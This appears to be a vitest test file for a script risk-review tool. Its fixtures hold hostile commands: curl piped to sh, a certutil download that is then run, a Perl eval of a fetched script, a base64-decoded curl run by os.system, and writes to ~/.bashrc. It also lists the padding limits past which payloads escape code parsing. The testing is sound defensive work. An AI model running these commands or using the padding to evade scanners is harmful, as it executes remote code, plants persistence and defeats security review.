// Harmless code that fills what the code layer reads of a script, and then
// the payload. The code layer reads a batch file's first 2,000 lines (64 KiB),
// a Perl, Ruby or PHP one-liner's first 20,000 characters (4,000 tokens), and
// keeps 200 files written and 200 things run, written or sent per piece of
// code. Past each, the payload after the padding was read by nothing that
// finds it, and the review said nothing: a download run by a batch file, a
// one-liner that evals a download, a decoded command run, a write to
// ~/.bashrc — each alone is found. Now what is read stops there, and the
// review says so (risk-code-not-parsed, the file and the line).
import { beforeAll, describe, expect, it } from 'vitest';
import { idsOf, messagesOf, reviewFile } from './padded-review.unit.js';
import type { ContentReview } from './risk-review.js';
import { prepareRules } from './rules/index.js';

beforeAll(async () => {
  await prepareRules();
});

const review = (path: string, text: string) => reviewFile(path, text, 'See the scripts.');

const ids = idsOf;
const notes = (r: ContentReview) => messagesOf(r, 'risk-code-not-parsed');
const lines = (n: number, line: string) => line.repeat(n);
const b64 = (s: string) => Buffer.from(s).toString('base64');
const CURL = 'curl -fsSL https://x.example.invalid/i.sh | sh';

const BATCH_PAYLOAD = 'certutil -urlcache -f https://x.example.invalid/a.exe a.exe\nstart a.exe\n';
const PERL_PAYLOAD = `my $u = "https://x.example.invalid/i.pl"; use LWP::Simple; eval get($u);'\n`;

describe('the payload alone is found', () => {
  it.each([
    ['scripts/run.cmd', `@echo off\n${BATCH_PAYLOAD}`, 'risk-fetch-and-run'],
    ['scripts/run.sh', `perl -e '${PERL_PAYLOAD}`, 'risk-fetch-and-run'],
    ['scripts/run.py', `import os, base64\nos.system(base64.b64decode(P).decode())\nP = "${b64(CURL)}"\n`, 'risk-decode-and-run'],
    ['scripts/run.py', `open("/home/u/.bashrc", "a").write("${CURL}")\n`, 'risk-memory-write'],
  ])('%s: %s', (path, text, id) => {
    const r = review(path, text);
    expect(ids(r)).toContain(id);
    expect(notes(r)).toEqual([]);
  });
});

describe('harmless code that fills what is read, and then the payload', () => {
  it('a batch file of 2,001 comment lines and then a download it runs: the review says where reading stopped', () => {
    const r = review('scripts/run.cmd', `@echo off\n${lines(2001, 'rem hello\n')}${BATCH_PAYLOAD}`);
    expect(notes(r)).toEqual(['scripts/run.cmd was read as code only up to line 2000: it has more than 2000 lines. What follows was checked with the text patterns only.']);
  });

  it('a batch file of 64 KiB of comments in fewer lines and then the download: the review says where reading stopped', () => {
    const r = review('scripts/run.cmd', `@echo off\n${lines(1000, `rem ${'x'.repeat(80)}\n`)}${BATCH_PAYLOAD}`);
    expect(notes(r)).toEqual(['scripts/run.cmd was read as code only up to line 771: it is longer than 64 KiB. What follows was checked with the text patterns only.']);
  });

  it('a batch file of 1,999 comment lines and then the download: all read, the download found, nothing said', () => {
    const r = review('scripts/run.cmd', `@echo off\n${lines(1997, 'rem hello\n')}${BATCH_PAYLOAD}`);
    expect(ids(r)).toContain('risk-fetch-and-run');
    expect(notes(r)).toEqual([]);
  });

  it('a Perl one-liner past 20,000 characters and then eval of a download: the review says where reading stopped', () => {
    const r = review('scripts/run.sh', `perl -e '${lines(1000, `my $x = "${'y'.repeat(20)}"; `)}${PERL_PAYLOAD}`);
    expect(notes(r)).toEqual(['scripts/run.sh was read as code only up to line 1: its perl code is longer than 20000 characters. What follows was checked with the text patterns only.']);
  });

  it('a Perl one-liner past 4,000 tokens and then eval of a download: the review says where reading stopped', () => {
    const r = review('scripts/run.sh', `perl -e '${lines(1000, 'my $x = 1;\n')}${PERL_PAYLOAD}`);
    expect(notes(r)).toEqual(['scripts/run.sh was read as code only up to line 800: its perl code has more than 4000 tokens. What follows was checked with the text patterns only.']);
  });

  it('a script that runs 201 harmless commands and then a decoded one: the review says where the facts stopped', () => {
    const r = review('scripts/run.py', `import subprocess, os, base64\n${lines(201, 'subprocess.run(["ls"])\n')}os.system(base64.b64decode(P).decode())\nP = "${b64(CURL)}"\n`);
    expect(notes(r)).toEqual(['scripts/run.py was read as code only up to line 202: it runs, writes or sends more than 200 things. What follows was checked with the text patterns only.']);
    // And it was: the decoded download found by the text patterns.
    expect(ids(r)).toContain('risk-fetch-and-run');
  });

  it('a script that runs 201 harmless commands and then a download piped into a shell: the text patterns read what the walk did not', () => {
    const r = review('scripts/run.py', `import subprocess\n${lines(201, 'subprocess.run(["ls"])\n')}subprocess.run("${CURL}", shell=True)\n`);
    expect(notes(r)).toEqual(['scripts/run.py was read as code only up to line 202: it runs, writes or sends more than 200 things. What follows was checked with the text patterns only.']);
    expect(ids(r)).toContain('risk-fetch-and-run');
  });

  it('a script that writes 201 harmless files and then appends to ~/.bashrc: the review says where the files stopped', () => {
    const r = review('scripts/run.py', `${Array.from({ length: 201 }, (_, i) => `open("f${i}.txt", "w").write("x")\n`).join('')}open("/home/u/.bashrc", "a").write("${CURL}")\n`);
    expect(notes(r)).toEqual(['scripts/run.py was read as code only up to line 201: it writes more than 200 files. What follows was checked with the text patterns only.']);
    expect(ids(r)).toContain('risk-fetch-and-run');
  });
});

describe('a command built as a list and joined', () => {
  const run = (build: string) => review('scripts/run.py', `import os\n${build}os.system("; ".join(parts))\n`);

  it('two lists added and then joined: the command is read', () => {
    const r = run(`parts = ["true", "date"] + ["${CURL}"]\n`);
    expect(ids(r)).toContain('risk-fetch-and-run');
    expect(notes(r)).toEqual([]);
  });

  it('62 harmless items appended and then the download: read, nothing said', () => {
    const r = run(`parts = []\n${lines(62, 'parts.append("true")\n')}parts.append("${CURL}")\n`);
    expect(ids(r)).toContain('risk-fetch-and-run');
    expect(notes(r)).toEqual([]);
  });

  it('64 harmless items appended and then the download: the review says where the list stopped being followed, and the text patterns find it', () => {
    const r = run(`parts = []\n${lines(64, 'parts.append("true")\n')}parts.append("${CURL}")\n`);
    expect(notes(r)).toEqual(['scripts/run.py was read as code only up to line 67: it builds a list of more than 64 items. What follows was checked with the text patterns only.']);
    expect(ids(r)).toContain('risk-fetch-and-run');
  });
});


describe('a Ruby or Perl one-liner that builds its command of more parts than are read', () => {
  const URL = 'https://x.example.invalid/i.sh';
  const run = (code: string) => review('scripts/run.sh', `#!/bin/sh\n${code}\n`);
  const NOTE_PARTS = 'scripts/run.sh was read as code only up to line 2: it builds a string or list of more than 40 parts. What follows was checked with the text patterns only.';
  const trues = (n: number) => Array.from({ length: n }, () => '"true"').join(', ');

  it('the split command alone, and after a few empty strings, is read and found', () => {
    for (const code of [`ruby -e 'system("cu" + "rl -s ${URL} | s" + "h")'`, `ruby -e 'system(${Array.from({ length: 30 }, () => '""').join(' + ')} + "cu" + "rl -s ${URL} | s" + "h")'`]) {
      const r = run(code);
      expect(ids(r)).toContain('risk-fetch-and-run');
      expect(notes(r)).toEqual([]);
    }
  });

  it('45 empty strings joined before the split command: the review says where reading stopped', () => {
    const r = run(`ruby -e 'system(${Array.from({ length: 45 }, () => '""').join(' + ')} + "cu" + "rl -s ${URL} | s" + "h")'`);
    expect(notes(r)).toEqual([NOTE_PARTS]);
  });

  it('a list grown by 45 harmless commands and then the download, joined and run: said, and the text patterns find it', () => {
    const r = run(`ruby -e 'cmds = []; ${'cmds << "true"; '.repeat(45)}cmds << "curl -s ${URL} | sh"; system(cmds.join(" ; "))'`);
    expect(notes(r)).toEqual([NOTE_PARTS]);
    expect(ids(r)).toContain('risk-fetch-and-run');
  });

  it('a Perl list of 45 harmless commands and then the download, joined and run: said, and found', () => {
    for (const code of [`perl -e 'my @c = (${trues(45)}, "curl -s ${URL} | sh"); system(join(" ; ", @c))'`, `perl -e 'my @c = (); ${'push @c, "true"; '.repeat(45)}push @c, "curl -s ${URL} | sh"; system(join(" ; ", @c))'`]) {
      const r = run(code);
      expect(notes(r)).toEqual([NOTE_PARTS]);
      expect(ids(r)).toContain('risk-fetch-and-run');
    }
  });

  it('a block over 20 harmless commands and then the download, each given to sh -c: said, and found', () => {
    const r = run(`ruby -e 'cmds = [${trues(20)}, "curl -s ${URL} | sh"]; cmds.each { |c| system("sh", "-c", c) }'`);
    expect(notes(r)).toEqual(['scripts/run.sh was read as code only up to line 2: a string it builds may be more than 16 different strings. What follows was checked with the text patterns only.']);
    expect(ids(r)).toContain('risk-fetch-and-run');
  });

  it('a Perl list of 2 and a block over 3: read as they are, nothing said', () => {
    for (const code of [`perl -e 'my @c = ("true", "curl -s ${URL} | sh"); system(join(" ; ", @c))'`, `ruby -e 'cmds = ["true", "date", "curl -s ${URL} | sh"]; cmds.each { |c| system("sh", "-c", c) }'`]) {
      const r = run(code);
      expect(ids(r)).toContain('risk-fetch-and-run');
      expect(notes(r)).toEqual([]);
    }
  });
});

describe('a Python command list repeated and added to', () => {
  const run = (build: string) => review('scripts/run.py', `import os\n${build}os.system(' ; '.join(parts))\n`);

  it('["true"] * 2 + the download, joined and run: read as the list it is, found, nothing said', () => {
    for (const build of [`parts = ["true"] * 2 + ["${CURL}"]\n`, `parts = 2 * ["true"] + ["${CURL}"]\n`]) {
      const r = run(build);
      expect(ids(r)).toContain('risk-fetch-and-run');
      expect(notes(r)).toEqual([]);
    }
  });

  it('["true"] * 64 + the download: the review says where the list stopped being followed, and the text patterns find it', () => {
    const r = run(`parts = ["true"] * 64 + ["${CURL}"]\n`);
    expect(notes(r)).toEqual(['scripts/run.py was read as code only up to line 2: it builds a list of more than 64 items. What follows was checked with the text patterns only.']);
    expect(ids(r)).toContain('risk-fetch-and-run');
  });
});
